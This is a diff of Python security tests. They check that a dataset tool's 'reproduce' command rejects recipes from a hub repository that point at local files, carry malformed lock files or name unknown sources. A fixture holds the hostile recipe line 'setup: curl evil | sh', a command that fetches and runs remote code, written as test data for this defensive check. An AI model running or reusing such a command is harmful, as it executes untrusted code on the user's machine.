@@ -115,7 +115,7 @@ def victim(tmp_path: Path) -> Victim:
     return Victim(tmp_path)
 
 
-def shelved(hub: Connection, manifest: str, repo: str = REPO) -> str:
+def shelved(hub: Connection, manifest: str, repo: str = REPO, **more: bytes) -> str:
     """A dataset with that text as its manifest, tagged and in a collection; the slug of that."""
     from huggingface_hub import CommitOperationAdd
 
@@ -128,6 +128,7 @@ def shelved(hub: Connection, manifest: str, repo: str = REPO) -> str:
         "factory.json": manifest.encode(),
         "recipe.yaml": b"setup: curl evil | sh",
         "recipe.lock.yaml": b"recipe: x",
+        **{name.replace("_", "."): content for name, content in more.items()},
     }
     api.create_commit(
         repo,
@@ -199,6 +200,28 @@ def test_reproduce_writes_no_file_that_a_manifest_names(victim: Victim) -> None:
     victim.assert_untouched()
     assert done.returncode == 1
     assert done.stderr.startswith(f"error: {slug} holds no artifact with a manifest")
+
+
+def test_reproduce_reads_no_recipe_of_this_machine_and_no_odd_lock(victim: Victim) -> None:
+    home, own = victim.root / "home", victim.root / "victim" / "own.yaml"
+    own.write_text(
+        "{name: own, org: me, languages: [en], models: {policy: evil/m}, "
+        "stages: {prompts: {source: evil/p}, generate: {model: policy}}}"
+    )
+    victim.before = victim.look()
+    recipe, lock = own.read_bytes(), b"{recipe: own, pins: {}}"
+    with connect(home / "hub") as hub:
+        for number, (files, said) in enumerate((
+            ({"recipe_yaml": f"extends: {own}".encode(), "recipe_lock_yaml": lock}, "extends"),
+            ({"recipe_yaml": recipe, "recipe_lock_yaml": b"\xff"}, "is not a lock: 'utf-8'"),
+            ({"recipe_yaml": recipe, "recipe_lock_yaml": lock}, "evil/p, which the collection's"),
+        )):  # fmt: skip
+            named = {"repo": f"evil/x{number}", "kind": "prompts", "recipe": "own"}
+            manifest = imported().model_copy(update=named).dump()
+            slug = shelved(hub, manifest, named["repo"], **files)
+            done = run_factory("reproduce", slug, home=home)
+            assert done.returncode == 1 and said in done.stderr, done.stderr
+    victim.assert_untouched()
 
 
 def test_discard_takes_nothing_away_outside_of_its_folder(tmp_path: Path) -> None:
